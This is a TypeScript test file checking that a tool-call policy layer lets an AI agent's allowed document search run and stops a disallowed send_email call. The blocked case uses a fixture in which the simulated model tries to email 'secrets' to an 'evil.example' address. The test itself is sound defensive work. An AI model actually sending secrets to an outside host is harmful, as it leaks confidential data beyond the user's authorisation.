import { afterEach, describe, expect, it, vi } from 'vitest';
import { ThothPolicyViolation, flush } from '@tollgate/sdk';
import { setUpExample, type ExampleEnvironment } from '../support/example-env.js';

let env: ExampleEnvironment | undefined;
afterEach(async () => {
  await flush(5000);
  await env?.close();
  env = undefined;
});

async function run() {
  vi.resetModules();
  const tools = await import('./tools.js');
  const outcome = await import('./seed-example.js').then(() => 'finished', (error: unknown) => error);
  return { tools, outcome };
}

describe('seed OpenAI example (real openai client against the fake model, real Tollgate)', () => {
  it('runs an allowed call and finishes the loop', async () => {
    env = await setUpExample('acme-corp', [{ toolCalls: [{ name: 'search_docs', arguments: { query: 'access control' } }] }, { text: 'Least privilege.' }]);
    const { tools, outcome } = await run();
    expect(outcome).toBe('finished');
    expect(tools.calls).toEqual(['search_docs access control']);
    expect(JSON.stringify(env.model.requests.at(-1)!.body.messages)).toContain('least privilege');
  });

  it('throws before an out-of-scope tool runs: the email is never sent', async () => {
    env = await setUpExample('acme-corp', [{ toolCalls: [{ name: 'send_email', arguments: { to: 'x@evil.example', body: 'secrets' } }] }, { text: 'unreachable' }]);
    const { tools, outcome } = await run();
    expect(outcome).toBeInstanceOf(ThothPolicyViolation);
    expect(outcome).toMatchObject({ code: 'POLICY_VIOLATION', toolName: 'send_email' });
    expect(tools.calls).toEqual([]);
    expect(env.model.requests).toHaveLength(1);
  });
});
